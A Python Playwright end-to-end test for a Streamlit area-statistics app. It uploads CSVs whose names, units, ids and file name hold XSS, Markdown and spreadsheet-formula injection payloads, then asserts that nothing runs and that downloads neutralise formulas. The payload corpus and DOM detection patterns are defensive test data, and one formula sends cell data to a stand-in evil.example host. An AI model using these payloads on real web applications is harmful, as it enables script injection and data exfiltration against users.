"""Script and Markdown injection in a real browser: a corpus of payloads placed where users put data
runs nothing, and is shown as the literal text the user wrote.

Every payload calls a sentinel, ``__pwned('<vector id>')``, exposed with ``expose_binding`` on the
browser context, so it exists in every frame: the page, the folium map iframe, Vega's and any
``srcdoc`` iframe a payload might create. The test also listens for dialogs, for page errors and
console errors that mention the sentinel, and for requests that only a parsed ``<img src=x>`` or
``<iframe>`` would make. It fails if any of these fires, or if any frame holds an element only a parsed payload would
create (a ``javascript:`` link, ``<img src=x>``, an ``iframe srcdoc``, an event-handler attribute,
a ``<script>`` starting with the sentinel).

Markdown is not script, but Streamlit renders it in titles, captions, alerts and labels: a name
like ``[visit](https://evil.example/x) **bold** :red[red] $x^2$ :material/home: :smile:`` would
become a link, bold, coloured text, maths, an icon and an emoji. Pages escape such text
(:func:`lib.render.format.md_text`), so the test also fails if any frame holds a link to
``evil.example`` (Markdown links and the bare addresses GitHub Markdown links), a ``<strong>`` or
``<b>`` reading exactly ``bold``, Streamlit's coloured text, maths, the ``home`` icon, an image in
Markdown (Streamlit's logo for ``:streamlit:``) or the 😄 emoji; and, on every page it visits, the
Markdown-rendered text itself must hold ``[visit](https://evil.example/x)`` literally (the
selected neighbourhood's name is the payload, so it is in every page's sidebar and titles).

Where the payloads go (all through the "Your data" page, in one browser session):

* **area names**: an uploaded neighbourhood grouping (the 12 neighbourhoods' wards as shipped)
  whose 12 neighbourhood names, the ward names and the locality names are payloads: they reach the
  sidebar select box, titles and headlines, map tooltips, chart axes and tables (the selected
  neighbourhood, S2, is named with the Markdown payload);
* **indicator names**: an uploaded own-format file with six indicators whose ``indicator_name``
  values are payloads (names, short names, select boxes, subheaders, chart axes, the catalogue;
  the one picked on the overview and compare pages is the Markdown payload);
* **uploaded text fields**: the same file's ``unit`` column and ``indicator_id``, and the file name.

Then it visits every page that shows them: Your data, Map (hovering and clicking polygons so
tooltips render, neighbourhoods and wards, a user indicator), Overview, Neighbourhood profile,
Compare areas, Risk cohorts, Activity shift, Present and Data and methods, and asserts that
nothing ran, no exception box appeared, no Markdown in the data was rendered as Markdown, and
every vector was shown somewhere as literal text (so the data provably reached the page).

CSV formula injection (``=HYPERLINK(...)``) is inert in the browser; in CSV downloads text cells
that start with ``=``, ``+``, ``-``, ``@``, tab or carriage return are neutralised with a leading
apostrophe (OWASP's advice, see :func:`lib.render.format.csv_bytes`): the test downloads the grouping
and the map table and checks it.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from playwright.sync_api import Error as PlaywrightError

from lib.core.wording import shorten
from tests.e2e.conftest import REPO, assert_no_exception, screenshot, wait_ready

MAP_IFRAME = 'iframe[title*="streamlit_folium"]'

#: vector id -> payload. Every payload, if it ran, would call __pwned('<id>').
CORPUS: dict[str, str] = {
    "script": "<script>__pwned('script')</script>",
    "img": "<img src=x onerror=\"__pwned('img')\">",
    "svg": "<svg onload=__pwned('svg')>",
    "mdlink": "[click me](javascript:__pwned('mdlink'))",
    "mdmix": "**bold** <b onmouseover=__pwned('mdmix')>hover</b> ![pic](javascript:__pwned('mdimg'))",
    "dquote": "\"><script>__pwned('dquote')</script>",
    "squote": "'-__pwned('squote')-'",
    "template": "{{constructor.constructor('__pwned(\"template\")')()}}",
    "vega": "${__pwned('vega')} {\"signal\": \"__pwned('vega')\"}",
    "iframe": "<iframe srcdoc=\"<script>__pwned('iframe')</script>\"></iframe>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"__pwned(\'formula\')")',
    "rtl": "\u202e<a href=\"javascript:__pwned('rtl')\">\u200bgnp.exe</a>\u202d",
    # Markdown that would be a link, bold, colour, maths, an icon, an emoji, Streamlit's logo and bare links
    "mdvisit": "[visit](https://evil.example/x) **bold** :red[red] $x^2$ :material/home: :smile: :streamlit: www.evil.example/y me@evil.example",
}
#: What must be shown literally, in Markdown, on every page (the selected neighbourhood's name holds it).
MD_LITERAL = "[visit](https://evil.example/x)"
VECTORS = list(CORPUS)
NEIGHBOURHOODS = ["N1", "N2", "N3", "N4", "C1", "C2", "C3", "C4", "S1", "S2", "S3", "S4"]
#: neighbourhood -> the vector that names it (S2, the one selected, is named with the Markdown payload)
NB_VECTORS = dict(
    zip(
        NEIGHBOURHOODS,
        [
            "script",
            "img",
            "svg",
            "mdlink",
            "mdmix",
            "dquote",
            "squote",
            "template",
            "vega",
            "mdvisit",
            "formula",
            "rtl",
        ],
    )
)
IND_NAMES = ["script", "img", "mdvisit", "dquote", "template", "formula"]  # indicator_name
IND_UNITS = ["svg", "mdmix", "squote", "vega", "iframe", "rtl"]  # unit of the same indicators
FILE_NAME = "<img src=x onerror=__pwned('filename')>.csv"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.skipif(
    not (REPO / "static" / "vendor" / "leaflet" / "leaflet.js").exists(),
    reason="Leaflet assets missing: run `make setup` (python -m lib.web.assets) before the browser tests",
)


def _csv(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue().encode("utf-8")


def grouping_csv() -> bytes:
    """The shipped 12-neighbourhood grouping with payloads for neighbourhood, ward and locality names."""
    d = pd.read_csv(REPO / "geodata" / "neighbourhoods.csv", dtype=str)
    nb_name = {code: CORPUS[NB_VECTORS[code]] for code in NEIGHBOURHOODS}
    loc_name = {"NORTH": CORPUS["iframe"], "CENTRAL": CORPUS["script"], "SOUTH": CORPUS["mdlink"]}
    rows = [["ward_code", "ward_name", "neighbourhood_code", "neighbourhood_name", "locality_code", "locality_name"]]
    for k, r in enumerate(d.itertuples()):
        ward = CORPUS[VECTORS[k % len(VECTORS)]] + f" w{k}"
        rows.append(
            [
                r.ward_code,
                ward,
                r.neighbourhood_code,
                nb_name[r.neighbourhood_code],
                r.locality_code,
                loc_name[r.locality_code],
            ]
        )
    return _csv(rows)


def indicator_csv() -> bytes:
    """Six ward-level indicators (counts and denominators) whose names, units and ids are payloads."""
    wards = sorted(pd.read_csv(REPO / "geodata" / "neighbourhoods.csv")["ward_code"])
    rows = [["indicator_id", "period", "area_code", "indicator_name", "unit", "numerator", "denominator"]]
    for j, (name_v, unit_v) in enumerate(zip(IND_NAMES, IND_UNITS)):
        ind_id = f"inj{j}" if j % 2 == 0 else f"inj{j} <script>__pwned('id{j}')</script>"
        for k, w in enumerate(wards):
            rows.append([ind_id, "2021/22", w, CORPUS[name_v], CORPUS[unit_v], str(40 + 7 * k + j), str(1000 + 50 * k)])
    return _csv(rows)


class Watch:
    """Everything that would show a payload ran (or was parsed as HTML)."""

    def __init__(self, page):
        self.fired: list[tuple[str, str]] = []
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.requests: list[str] = []
        ctx = page.context
        ctx.expose_binding("__pwned", lambda source, vid: self.fired.append((vid, source["frame"].url)))
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda exc: self.errors.append(f"pageerror: {exc}"))
        page.on(
            "console",
            lambda msg: self.errors.append(f"console {msg.type}: {msg.text}") if msg.type == "error" else None,
        )
        page.on("request", lambda req: self.requests.append(req.url))
        page.on("response", lambda r: self.errors.append(f"HTTP {r.status}: {r.url}") if r.status >= 400 else None)
        self.page = page

    def _dialog(self, dialog):
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def check(self, where: str) -> None:
        assert not self.fired, f"{where}: injected script ran: {self.fired}"
        assert not self.dialogs, f"{where}: a dialog opened: {self.dialogs}"
        bad = [e for e in self.errors if re.search(r"pwned|SyntaxError|Content.Security", e, re.I)]
        assert not bad, f"{where}: script errors: {bad}"
        parsed = [u for u in self.requests if re.search(r"/x(\?|$)|evil\.example|javascript:", u)]
        assert not parsed, f"{where}: a payload was parsed as HTML (it made a request): {parsed}"
        elements = []
        for frame in self.page.frames:
            try:
                elements += frame.evaluate(DOM_SCAN)
            except Exception:  # a frame that went away while reading
                pass
        assert not elements, f"{where}: a payload became markup: {elements[:5]}"


#: Elements only a payload parsed as HTML (or markdown) would create, in any frame. The app itself
#: shows no coloured text, maths, home icon, image in Markdown or 😄, and never writes "bold" in bold.
DOM_SCAN = """() => {
    const out = [];
    for (const el of document.querySelectorAll('a[href]')) {
        const href = (el.getAttribute('href') || '').trim().toLowerCase();
        if (/^(javascript|data|vbscript):/.test(href) || href.includes('evil.example')) out.push(el.outerHTML.slice(0, 120));
    }
    for (const el of document.querySelectorAll('strong, b')) {
        if (el.textContent.trim() === 'bold') out.push(el.outerHTML.slice(0, 120));
    }
    for (const el of document.querySelectorAll('.stMarkdownColoredText, .katex, span[role="img"][aria-label="home icon"], '
                                                + '[data-testid="stMarkdownContainer"] img')) {
        out.push(el.outerHTML.slice(0, 120));
    }
    if (document.body && document.body.innerText.includes('\\u{1F604}')) out.push('the :smile: emoji');
    for (const el of document.querySelectorAll('img[src="x"], iframe[srcdoc], svg[onload], [onerror], [onload], [onmouseover]')) {
        out.push(el.outerHTML.slice(0, 120));
    }
    for (const sc of document.scripts) { if (/^\\s*__pwned/.test(sc.textContent)) out.push(sc.outerHTML.slice(0, 120)); }
    return out;
}"""


def _norm(text: str) -> str:
    # U+2060 (word joiner): invisible, put in by lib.render.format.md_text so Streamlit cannot link an address or make an emoji
    return re.sub(r"\s+", " ", text.replace("\u00a0", " ").replace("\u2060", ""))


def assert_markdown_literal(page, where: str) -> None:
    """The text Streamlit rendered from Markdown (text, titles, captions, alerts, labels) holds the
    Markdown payload exactly as written."""
    shown = _norm(
        page.evaluate(
            """() => [...document.querySelectorAll('[data-testid="stMarkdownContainer"], [data-testid="stCaptionContainer"]')]
                 .map(e => e.innerText).join('\\n')"""
        )
    )
    assert MD_LITERAL in shown, f"{where}: {MD_LITERAL!r} is not shown literally in the page's Markdown"


class Seen:
    """Which payloads were shown as literal text, and where."""

    def __init__(self):
        self.where: dict[str, list[str]] = {v: [] for v in VECTORS}

    def collect(self, page, where: str) -> str:
        texts = [page.locator("body").inner_text()]
        texts += [el.input_value() for el in page.locator('input[role="combobox"]').all()]
        for frame in page.frames[1:]:
            try:
                texts.append(frame.evaluate("() => document.body ? document.body.innerText : ''"))
            except Exception:  # a frame that went away while reading
                pass
        text = _norm("\n".join(texts))
        for v, payload in CORPUS.items():
            if _norm(payload) in text:
                self.where[v].append(where)
        return text

    def missing(self) -> list[str]:
        return [v for v, w in self.where.items() if not w]


def _upload(page, index: int, name: str, content: bytes) -> None:
    uploader = page.locator('[data-testid="stFileUploader"] input[type="file"]').nth(index)
    uploader.set_input_files(files=[{"name": name, "mimeType": "text/csv", "buffer": content}])


def _nav(page, label: str) -> None:
    page.locator('[data-testid="stSidebarNav"] a', has_text=label).first.click()
    wait_ready(page, timeout=60_000)


def _pick(page, box, typed: str, expect: str) -> None:
    """Choose an option of a select box by typing part of its label; check the choice."""
    box.click()
    page.keyboard.type(typed)
    page.keyboard.press("Enter")
    wait_ready(page, timeout=60_000)
    chosen = box.locator('input[role="combobox"]').input_value()
    assert _norm(expect) in _norm(chosen), (expect, chosen)


def _wait_map(page, polygons: int) -> None:
    """One map iframe (a rerun may briefly hold the old one too) with its polygons drawn."""
    try:
        page.wait_for_function(
            """([sel, n]) => { const fs = document.querySelectorAll(sel); const d = fs.length === 1 && fs[0].contentDocument;
                   return d && d.querySelectorAll('path.leaflet-interactive').length >= n; }""",
            arg=[MAP_IFRAME, polygons],
            timeout=60_000,
        )
    except Exception:
        screenshot(page, "injection_map_missing")
        raise


def _hover_areas(page, codes: list[str], seen: Seen, watch: Watch, where: str, click: str | None = None) -> None:
    """Hover each area's label point so its tooltip renders; read the tooltip; click one area."""
    iframe = page.locator(MAP_IFRAME)
    for attempt in range(3):
        try:
            iframe.scroll_into_view_if_needed(timeout=15_000)
            break
        except PlaywrightError:  # streamlit-folium replaced the map's frame after the wait: find the new one
            if attempt == 2:
                raise
            page.wait_for_timeout(1_500)
    page.wait_for_timeout(400)
    inner = iframe.element_handle().content_frame()
    box = iframe.bounding_box()
    for code in codes:
        point = inner.evaluate(
            """(code) => { let out = null;
                 window.map.eachLayer(l => { if (l.feature && l.feature.properties.code === code) {
                     const p = l.feature.properties; out = window.map.latLngToContainerPoint([p.label_lat, p.label_lng]); } });
                 const r = document.querySelector('.leaflet-container').getBoundingClientRect();
                 return out && {x: out.x + r.left, y: out.y + r.top}; }""",
            code,
        )
        if not point:
            continue
        page.mouse.move(box["x"] + point["x"] + 6, box["y"] + point["y"] + 14)
        try:
            inner.wait_for_selector(".leaflet-tooltip", timeout=5_000)
        except Exception:
            continue
        tip = _norm(
            inner.evaluate("() => [...document.querySelectorAll('.leaflet-tooltip')].map(t => t.innerText).join(' ')")
        )
        for v, payload in CORPUS.items():
            if _norm(payload) in tip:
                seen.where[v].append(f"{where} tooltip")
        watch.check(f"{where} hover {code}")
        if click == code:
            page.mouse.click(box["x"] + point["x"] + 6, box["y"] + point["y"] + 14)
            wait_ready(page, timeout=60_000)


def test_payloads_in_area_names_indicator_names_and_values_run_nothing(offline_page, app_url):
    page = offline_page
    watch = Watch(page)
    seen = Seen()
    page.set_default_timeout(60_000)

    # ---- Your data: the grouping (area names), then the indicator file (names, units, ids, file name)
    page.goto(f"{app_url}/own_data")
    wait_ready(page, timeout=60_000)
    main = page.locator('[data-testid="stMain"]')
    main.get_by_text("Upload my own grouping").click()
    wait_ready(page, timeout=60_000)
    _upload(page, 1, "grouping_SYNTHETIC.csv", grouping_csv())
    page.get_by_text("Your grouping: grouping_SYNTHETIC.csv", exact=False).first.wait_for(timeout=60_000)
    wait_ready(page, timeout=60_000)
    assert_no_exception(page)
    _upload(page, 0, FILE_NAME, indicator_csv())
    page.get_by_text(re.compile("Loaded “")).first.wait_for(timeout=60_000)
    wait_ready(page, timeout=60_000)
    assert_no_exception(page)
    assert page.locator('[data-testid="stAlert"]').filter(has_text="was not loaded").count() == 0
    seen.collect(page, "own_data")
    watch.check("own_data")
    screenshot(page, "injection_own_data")

    # CSV formula injection: the grouping download neutralises cells that would be formulas
    with page.expect_download(timeout=30_000) as dl:
        main.get_by_role("button", name=re.compile("Download this grouping")).first.click()
    raw = open(dl.value.path(), encoding="utf-8").read()
    cells = [c for row in csv.reader(io.StringIO(raw)) for c in row]
    assert "'" + CORPUS["formula"] in cells, "the formula payload should be downloaded with a leading apostrophe"
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a downloaded cell would run as a spreadsheet formula"
    assert CORPUS["script"] in cells  # other text is downloaded exactly

    # ---- Map: neighbourhoods (tooltips carry the payload names), click one, then a user indicator on wards
    _nav(page, "Map")
    _wait_map(page, 12)
    assert_no_exception(page)
    _hover_areas(page, NEIGHBOURHOODS, seen, watch, "map neighbourhoods", click="S2")
    page.wait_for_function("() => new URLSearchParams(location.search).get('nbhd') === 'S2'", timeout=30_000)
    wait_ready(page, timeout=60_000)
    seen.collect(page, "map selected S2")
    watch.check("map after click")
    assert_markdown_literal(page, "map selected S2")
    main.locator('[data-testid="stSelectbox"]').nth(0).click()  # family: the user indicators are outcomes
    page.keyboard.press("Escape")
    _pick(page, main.locator('[data-testid="stSelectbox"]').nth(1), 'pwned("template', CORPUS["template"])
    main.get_by_text("Wards", exact=True).first.click()
    wait_ready(page, timeout=60_000)
    _wait_map(page, 32)
    page.wait_for_function(
        """(sel) => { const d = document.querySelector(sel).contentDocument;
               return d.documentElement.innerHTML.includes('constructor.constructor'); }""",
        arg=MAP_IFRAME,
        timeout=60_000,
    )
    assert_no_exception(page)
    main.get_by_text("Continuous", exact=False).first.click()  # legend title = the short name
    wait_ready(page, timeout=60_000)
    _wait_map(page, 32)
    wards = pd.read_csv(REPO / "geodata" / "neighbourhoods.csv")["ward_code"].tolist()
    _hover_areas(page, wards[:14], seen, watch, "map wards")
    seen.collect(page, "map wards")
    watch.check("map wards")
    assert_markdown_literal(page, "map wards")
    screenshot(page, "injection_map")

    with page.expect_download(timeout=30_000) as dl:
        main.get_by_role("button", name=re.compile("Download this table")).first.click()
    table = pd.read_csv(dl.value.path(), dtype=str, keep_default_na=False)
    texts = [c for col in table.columns if table[col].dtype == object for c in table[col]]
    assert not [c for c in texts if c.startswith(FORMULA_START) and not re.fullmatch(r"-?[\d.,]+", c)], texts[:20]

    # ---- the other pages, with the payload neighbourhood S2 selected and the user indicators loaded
    for label, where in [
        ("Overview", "overview"),
        ("Neighbourhood profile", "profile"),
        ("Compare areas", "compare"),
        ("Risk cohorts", "cohorts"),
        ("Activity shift", "activity"),
        ("Data and methods", "methods"),
    ]:
        _nav(page, label)
        assert_no_exception(page)
        if where in ("overview", "compare"):
            box = main.locator('[data-testid="stSelectbox"]').nth(0 if where == "overview" else 1)
            # the compare page lists short names (cut at a word, lib.core.wording.shorten)
            _pick(page, box, "visit](https", shorten(CORPUS["mdvisit"]).removesuffix("…"))
            assert_no_exception(page)
        # the other views of the cohorts, activity and methods pages (lazy tabs: drawn when opened)
        views = {
            "cohorts": [None, "Map of a cohort indicator", "Risk pyramid (MODELLED)"],
            "methods": [None, "Each indicator in full"],
            "activity": [None, "All 12 neighbourhoods' shares", "The money", "Track your monthly activity"],
        }.get(where, [None])
        for view in views:
            if view:
                main.get_by_role("tab", name=view).first.click()
                wait_ready(page, timeout=60_000)
                assert_no_exception(page)
            name = where + (f" · {view}" if view else "")
            # charts: hover the Vega views so tooltips render, then read everything
            for chart in main.locator('[data-testid="stVegaLiteChart"]').all()[:3]:
                try:
                    chart.scroll_into_view_if_needed(timeout=5_000)
                    chart.hover(timeout=5_000)
                except Exception:
                    pass
            seen.collect(page, name)
            watch.check(name)
            assert_markdown_literal(page, name)
            screenshot(page, f"injection_{name.replace(' · ', '_').replace(' ', '_')}")

    # ---- presentation mode, from the sidebar link (same session), through its steps
    page.locator('[data-testid="stSidebar"] [data-testid="stPageLink"] a').first.click()
    wait_ready(page, timeout=60_000)
    for step in range(8):
        wait_ready(page, timeout=60_000)
        assert_no_exception(page)
        seen.collect(page, f"present {step}")
        watch.check(f"present step {step}")
        assert_markdown_literal(page, f"present step {step}")
        nxt = page.locator(".st-key-np_next button").first
        if nxt.count() == 0 or nxt.is_disabled():
            break
        before = page.url
        nxt.click()
        page.wait_for_function("(u) => location.href !== u", arg=before, timeout=30_000)
    screenshot(page, "injection_present")

    watch.check("end")
    missing = seen.missing()
    assert not missing, f"never shown as literal text: {missing}; seen: { {v: w[:3] for v, w in seen.where.items()} }"
